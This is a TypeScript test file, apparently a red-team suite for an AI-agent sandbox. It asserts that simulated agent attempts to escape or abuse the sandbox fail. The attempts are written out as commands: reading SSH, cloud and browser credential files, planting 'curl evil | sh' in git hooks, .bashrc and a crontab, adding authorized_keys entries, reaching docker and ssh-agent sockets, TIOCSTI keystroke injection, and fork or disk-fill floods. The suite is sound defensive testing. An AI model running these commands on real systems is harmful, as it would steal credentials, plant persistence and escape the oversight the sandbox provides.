/**
 * The red-team suite, filesystem half: a fake person's home full of canary secrets, Paddock's home
 * inside it, a project, and sessions made by the real session manager in real bubblewrap. Each case
 * is an attempt by the agent, twice: through `paddock exec` (pipes, a one-shot session) and through
 * a session (the attack is the agent, in its pseudo-terminal). Each must fail, and the canary may
 * appear in no output and in no file but the ones it was planted in.
 *
 * The fixture is made outside /tmp (the sandbox's /tmp is private, so a fixture there would be
 * hidden whatever the rules say): in the repository's .test-tmp, or PADDOCK_REDTEAM_DIR.
 */
import { spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AgentPreset } from '../agents';
import { makeRepository, plainGit } from '../git/testing';
import type { SessionManager } from '../sessions';
import type { SettingsService } from '../settings';
import type { AuditStore } from '../store';
import { SETTINGS } from '../../../shared/settings';
import { attempts } from '../../../test-support/attempts';
import { shellPreset } from '../../../test-support/fixtures/shell-preset';
import { cgroupsAvailable, sandboxAvailable } from '../../../test-support/sandbox-host';
import { testSessions } from '../../../test-support/sessions';

const CANARY = 'CANARY-7f3a9c-do-not-leak';
/** Matches the canary without holding it: an attack's own text is recorded, and must not leak it. */
const CANARY_PATTERN = 'CANARY-7f3a9c-do-not-lea[k]';
const person = { actor: 'person' as const, actorId: 'ada' };
/** Where the person keeps secrets: every path an agent must not read. */
const SECRETS = [
  '.ssh/id_rsa',
  '.aws/credentials',
  '.azure/msal_token_cache.json',
  '.config/gcloud/application_default_credentials.json',
  '.kube/config',
  '.docker/config.json',
  '.gnupg/private-keys-v1.d/key.key',
  '.password-store/bank.gpg',
  '.netrc',
  '.npmrc',
  '.pypirc',
  '.git-credentials',
  '.config/gh/hosts.yml',
  '.claude/.credentials.json',
  '.codex/auth.json',
  '.local/share/keyrings/login.keyring',
  '.mozilla/firefox/ada.default/logins.json',
  '.bash_history',
];
const REPO_ROOT = join(__dirname, '..', '..', '..', '..');
/** Whether Paddock may make control groups here (root, or delegated): memory needs them. */
const cgroups = cgroupsAvailable();
const available = sandboxAvailable;

let root: string;
let home: string;
let project: string;
let otherWorkspace: string;
let sessions: SessionManager;
let settings: SettingsService;
let store: AuditStore;
let close: () => Promise<void>;
const presets: AgentPreset[] = [];
const servers: Server[] = [];
let sockets: Record<'dbus' | 'docker' | 'sshAgent' | 'abstract', string>;
let hostPort: number;

beforeAll(async () => {
  if (!available) return;
  const base = process.env.PADDOCK_REDTEAM_DIR ?? join(REPO_ROOT, '.test-tmp');
  mkdirSync(base, { recursive: true });
  root = realpathSync(mkdtempSync(join(base, 'redteam-')));
  home = join(root, 'home', 'ada');
  for (const secret of SECRETS) plant(join(home, secret));
  writeFileSync(join(home, '.bashrc'), '# the person’s shell\n');
  // Paddock as the person runs it: HOME is theirs, Paddock's home inside it.
  process.env.HOME = home;
  process.env.PADDOCK_TEST_SECRET = CANARY; // in Paddock's own environment
  const paddockHome = join(home, '.local', 'share', 'paddock');
  project = join(home, 'src', 'app');
  mkdirSync(project, { recursive: true });
  makeRepository(project, {
    'README.md': '# app\n',
    'src/a.ts': 'export {};\n',
    '.gitignore': '.env\n',
  });
  writeFileSync(join(project, '.env'), `API_KEY=${CANARY}\n`);
  ({ sessions, settings, store, close } = testSessions({
    home: paddockHome,
    presets,
    sourceEnv: { PATH: process.env.PATH },
    sandbox: { diskPollMs: 250, breachPollMs: 100 },
  }));
  const other = await sessions.exec(
    { project, argv: ['/bin/sh', '-c', 'echo mine > notes.md'], keep: true },
    quiet(),
    person,
  );
  otherWorkspace = other.workspace;
  sockets = await hostSockets();
});

afterAll(async () => {
  for (const server of servers) server.close();
  await close?.();
  if (root) rmSync(root, { recursive: true, force: true });
});

function plant(path: string): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, `secret: ${CANARY}\n`);
}

function quiet() {
  return { stdout: () => undefined, stderr: () => undefined };
}

/** Servers of the host an agent must not reach: each answers with the canary. */
async function hostSockets() {
  const runtime = join(root, 'run-user');
  mkdirSync(runtime);
  process.env.XDG_RUNTIME_DIR = runtime;
  const sshDir = join(home, '.ssh', 'agent');
  mkdirSync(sshDir, { recursive: true });
  const paths = {
    dbus: join(runtime, 'bus'),
    docker: join(home, '.docker', 'run', 'docker.sock'),
    sshAgent: join(sshDir, 'agent.4242'),
    abstract: `\0paddock-redteam-${process.pid}`,
  };
  mkdirSync(dirname(paths.docker), { recursive: true });
  for (const path of Object.values(paths)) await listen(path);
  const tcp = await listen(0);
  hostPort = (tcp.address() as { port: number }).port;
  return { ...paths, abstract: paths.abstract.slice(1) };
}

function listen(where: string | number): Promise<Server> {
  const server = createServer((socket) => socket.end(CANARY));
  servers.push(server);
  return new Promise((resolve) => {
    if (typeof where === 'number') server.listen(where, '127.0.0.1', () => resolve(server));
    else server.listen(where, () => resolve(server));
  });
}

const { viaExec, viaSession } = attempts(() => ({ sessions, store, project, presets, person }));

/** No file holds the canary but the ones it was planted in. */
function canaryOnlyWherePlanted(): void {
  const found = spawnSync('grep', ['-rlF', '--', CANARY, root], { encoding: 'utf8' })
    .stdout.split('\n')
    .filter(Boolean)
    .map((path) => path.slice(home.length + 1));
  expect(found.sort()).toEqual([...SECRETS, 'src/app/.env'].sort());
}

/** The attempt fails both ways, inside a sandbox that did start, and nothing leaks. */
async function refused(script: string): Promise<void> {
  for (const attempt of [await viaExec(script), await viaSession(script)]) {
    expect(attempt.output, 'the sandbox did not start').toContain('SANDBOX-UP');
    expect(attempt.exitCode, attempt.output).not.toBe(0);
    expect(attempt.output).not.toContain(CANARY);
  }
  canaryOnlyWherePlanted();
}

// Skipped (and so reported by `npm test`) only where bubblewrap cannot run: missing, or user
// namespaces blocked. scripts/install-system-deps.sh installs it and socat.
describe.skipIf(!available)('red team: the filesystem half', () => {
  for (const secret of SECRETS) it(`reading ~/${secret}`, () => refused(`cat "${home}/${secret}"`));

  it("reading Paddock's own database", () =>
    refused(`cat ${home}/.local/share/paddock/paddock.db > /dev/null`));

  it("reading the project's .env through its checkout", () => refused(`cat ${project}/.env`));

  it('a symlink in the workspace pointing at ~/.ssh/id_rsa', () =>
    refused(`ln -s ${home}/.ssh/id_rsa key && cat key`));

  it('a hardlink in the workspace to ~/.ssh/id_rsa', () =>
    refused(`ln ${home}/.ssh/id_rsa key && cat key`));

  it("reading the host's /proc/*/environ (Paddock's own holds a secret)", () =>
    refused(`cat /proc/*/environ | tr '\\0' '\\n' | grep '${CANARY_PATTERN}'`));

  it("listing the host's processes with their environment (ps eww)", () =>
    refused(`ps eww -A | grep '${CANARY_PATTERN}'`));

  it("writing the workspace's .git/hooks/pre-commit", async () => {
    await refused('echo "curl evil | sh" > .git/hooks/pre-commit');
  });

  it("setting core.fsmonitor in the workspace's .git/config", () =>
    refused('git config core.fsmonitor "curl evil | sh"'));

  it("setting core.hooksPath in the workspace's .git/config", () =>
    refused('git config core.hooksPath /tmp/hooks'));

  it('renaming .git away to put another in its place', () =>
    refused('mv .git .git-away && mkdir .git && echo "[core] fsmonitor = evil" > .git/config'));

  it('creating .claude/settings.json', () =>
    refused('mkdir -p .claude && echo \'{"hooks":{}}\' > .claude/settings.json'));

  it('creating .mcp.json', () => refused('echo \'{"mcpServers":{}}\' > .mcp.json'));

  it('creating .vscode/tasks.json', () =>
    refused('mkdir -p .vscode && echo \'{"tasks":[]}\' > .vscode/tasks.json'));

  it('renaming .claude away and making a new one', () =>
    refused('mv .claude .claude-away && mkdir .claude && echo x > .claude/settings.json'));

  it('appending to ~/.bashrc', async () => {
    await refused(`echo 'curl evil | sh' >> ${home}/.bashrc`);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# the person’s shell\n');
  });

  it('installing a crontab', () =>
    refused(
      'mkdir -p /var/spool/cron/crontabs && echo "* * * * * curl evil | sh" > /var/spool/cron/crontabs/root',
    ));

  it('planting ~/.ssh/authorized_keys', () =>
    refused(`echo "ssh-ed25519 AAAA evil" >> ${home}/.ssh/authorized_keys`));

  it("writing into the project's checkout", async () => {
    await refused(`echo x > ${project}/README.md`);
    expect(readFileSync(join(project, 'README.md'), 'utf8')).toBe('# app\n');
  });

  it("reading and writing another session's workspace", async () => {
    await refused(`cat ${otherWorkspace}/notes.md && echo evil > ${otherWorkspace}/notes.md`);
    expect(readFileSync(join(otherWorkspace, 'notes.md'), 'utf8')).toBe('mine\n');
  });

  it('reaching the D-Bus session bus socket', () =>
    refused(`socat -u UNIX-CONNECT:${sockets.dbus} -`));

  it('reaching the docker socket', () => refused(`socat -u UNIX-CONNECT:${sockets.docker} -`));

  it("reaching the person's ssh-agent", () =>
    refused(`socat -u UNIX-CONNECT:${sockets.sshAgent} -`));

  it('reaching an abstract Unix socket of the host', () =>
    refused(`socat -u ABSTRACT-CONNECT:${sockets.abstract} -`));

  it("reaching a server on the host's loopback", () =>
    refused(`socat -u TCP:127.0.0.1:${hostPort} -`));

  it('writing /etc', () => refused('echo x > /etc/paddock-was-here'));

  // In a session the agent's terminal is its own pty: without the seccomp filter, TIOCSTI there
  // succeeds (this kernel allows it, dev.tty.legacy_tiocsti=1). On pipes there is no terminal.
  it.skipIf(!existsSync('/usr/bin/python3'))(
    'pushing keystrokes into its terminal (TIOCSTI)',
    async () => {
      const push = `python3 -c "import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b'x')"`;
      const attempt = await viaSession(push);
      expect(attempt.output).toContain('SANDBOX-UP');
      expect(attempt.exitCode).not.toBe(0);
      expect(attempt.output).toContain('Operation not permitted');
    },
  );

  it('still lets the agent work: read the project, write and commit in its workspace, use /tmp', async () => {
    const script =
      'cat src/a.ts && echo done > notes.md && echo t > /tmp/t && cat /tmp/t && git add -A && git commit -qm "from the sandbox" && git log -1 --format=%s';
    const viaPipes = await viaExec(script);
    expect(viaPipes.exitCode, viaPipes.output).toBe(0);
    const inSession = await viaSession(script);
    expect(inSession.exitCode, inSession.output).toBe(0);
    expect(inSession.output).toContain('from the sandbox');
    // The agent's own `git add -A` took no stand-in for a blocked file.
    const workspace = sessions.list().find((s) => s.agentPreset === presets.at(-1)?.id)?.workspace;
    expect(plainGit(workspace as string, ['show', '--stat', '--format=', 'HEAD'])).not.toMatch(
      /\.mcp\.json|\.claude|\.vscode|\.envrc/,
    );
  });
});

describe.skipIf(!available)('red team: what the sandbox leaves behind', () => {
  it('no stand-in in the diff while the agent runs, and none in the workspace after it', async () => {
    const preset = shellPreset('idle', 'echo work > notes.md; sleep 30');
    presets.push(preset);
    const started = await sessions.start({ project, preset: preset.id }, person);
    const workspace = started.workspace as string;
    for (let i = 0; i < 100 && !existsSync(join(workspace, 'notes.md')); i++)
      await new Promise((resolve) => setTimeout(resolve, 50));
    expect(existsSync(join(workspace, '.mcp.json'))).toBe(true); // the stand-in, on the host
    const diff = await sessions.diff(started.id);
    expect(diff.files.map((file) => file.path)).toEqual(['notes.md']);
    // A command run beside the agent (a gate's) finds the stand-in on the host: still blocked.
    const beside = await sessions.execIn(
      started.id,
      ['/bin/sh', '-c', 'echo \'{"mcpServers":{}}\' > .mcp.json'],
      quiet(),
      person,
    );
    expect(beside.exitCode).not.toBe(0);
    sessions.stop(started.id, person);
    await sessions.waitForExit(started.id);
    for (const path of ['.mcp.json', '.claude', '.vscode', '.envrc'])
      expect(existsSync(join(workspace, path)), path).toBe(false);
  });
});

describe.skipIf(!available)('red team: links the sandbox must not follow', () => {
  it('a repository that commits .claude as a link to ~/.ssh', async () => {
    const hostile = join(home, 'src', 'hostile');
    mkdirSync(hostile, { recursive: true });
    makeRepository(hostile, { 'README.md': '# hostile\n' });
    symlinkSync(join(home, '.ssh'), join(hostile, '.claude'));
    plainGit(hostile, ['add', '-A']);
    plainGit(hostile, ['commit', '-qm', 'a link']);
    let output = '';
    const collect = (chunk: Buffer) => void (output += chunk.toString());
    await expect(
      sessions.exec(
        { project: hostile, argv: ['cat', '.claude/id_rsa'] },
        { stdout: collect, stderr: collect },
        person,
      ),
    ).rejects.toThrow(/\.claude in the workspace is a symbolic link/);
    expect(output).not.toContain(CANARY);
    canaryOnlyWherePlanted();
  });

  it("a link planted in the workspace's .git/info, to make Paddock write into the home", async () => {
    const attempt = await viaSession(`rm -rf .git/info && ln -s ${home} .git/info && echo planted`);
    expect(attempt.output).toContain('planted');
    const session = sessions.list()[0];
    await expect(sessions.execIn(session?.id as string, ['true'], quiet(), person)).rejects.toThrow(
      /symbolic link/,
    );
    expect(existsSync(join(home, 'exclude'))).toBe(false);
  });
});

describe.skipIf(!available)('red team: the limits', () => {
  const LIMITS = {
    processes: 64,
    memoryMiB: 128,
    cpuSeconds: 60,
    fileMiB: 8,
    diskMiB: 40,
    tmpMiB: 4,
  };
  beforeAll(() => void settings.set('sandbox.limits', LIMITS, person));
  afterAll(() => void settings.set('sandbox.limits', SETTINGS['sandbox.limits'].default, person));

  // Root ignores RLIMIT_NPROC: as root, only a control group limits processes. Without one (a
  // container that gives none), no process limit holds for root, and this says so by skipping.
  it.skipIf(!cgroups && process.getuid?.() === 0)(
    'a fork loop stops at the process limit and fails the session',
    async () => {
      const attempt = await viaSession(
        'i=0; while [ $i -lt 400 ]; do sleep 30 & i=$((i + 1)); done; echo FORKED-ALL; wait',
      );
      expect(attempt.output).toContain('SANDBOX-UP');
      expect(attempt.output, JSON.stringify(attempt)).not.toContain('FORKED-ALL');
      if (cgroups) {
        expect(attempt.state).toBe('failed');
        expect(attempt.reason).toContain('64 processes');
      } else expect(attempt.exitCode).not.toBe(0); // the rlimit: fork fails, nothing watches it
    },
  );

  it('one file past the file-size limit is cut off', async () => {
    const attempt = await viaExec(
      'dd if=/dev/zero of=big bs=1M count=64 status=none; echo "size $(stat -c %s big)"',
    );
    expect(attempt.output).toContain('File size limit exceeded');
    expect(attempt.output).toContain(`size ${8 * 1024 * 1024}`);
  });

  it('filling the disk with many files fails the session', async () => {
    const attempt = await viaSession(
      'i=0; while [ $i -lt 60 ]; do dd if=/dev/zero of=fill-$i bs=1M count=4 status=none; i=$((i + 1)); sleep 0.05; done; echo FILLED-ALL',
    );
    expect(attempt.output).not.toContain('FILLED-ALL');
    expect(attempt.state).toBe('failed');
    expect(attempt.reason).toContain('40 MiB');
  });

  it('filling the private /tmp stops at its size', async () => {
    const attempt = await viaExec('dd if=/dev/zero of=/tmp/fill bs=64K count=1000 status=none');
    expect(attempt.exitCode).not.toBe(0);
    expect(attempt.output).toMatch(/No space left on device/);
  });

  // Without control groups (no root, no delegation) no memory limit holds: said, not hidden.
  it.skipIf(!cgroups)(
    'a memory balloon is killed at the memory limit and fails the session',
    async () => {
      const attempt = await viaSession(
        `node -e "const a = []; for (;;) a.push(Buffer.alloc(16 * 1024 * 1024, 1))"`,
      );
      expect(attempt.state).toBe('failed');
      expect(attempt.reason).toContain('128 MiB of memory');
    },
  );
});
